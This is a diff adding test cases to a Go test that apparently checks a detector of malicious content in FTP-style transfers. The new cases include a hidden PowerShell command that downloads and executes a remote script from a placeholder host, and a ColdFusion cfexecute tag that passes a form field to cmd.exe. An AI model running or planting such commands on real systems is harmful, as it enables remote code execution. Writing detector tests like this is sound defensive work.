@@ -404,4 +404,12 @@ func TestContents(t *testing.T) {
 			t.Errorf("%s: got %v\nwant %s", name, got, NotNormal)
 		}
 	}
+	for content, want := range map[string]bool{
+		"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://www.example/a')": true, // a computer may run it
+		`<cfexecute name="cmd.exe" arguments="/c #form.c#">`:                                           false,
+	} {
+		if got := forged(t, moved("RETR a", answerer, content)); (got.Verdict == NotNormal) != want {
+			t.Errorf("RETR of %s: got %v\nwant %s: %v", content, got, NotNormal, want)
+		}
+	}
 }
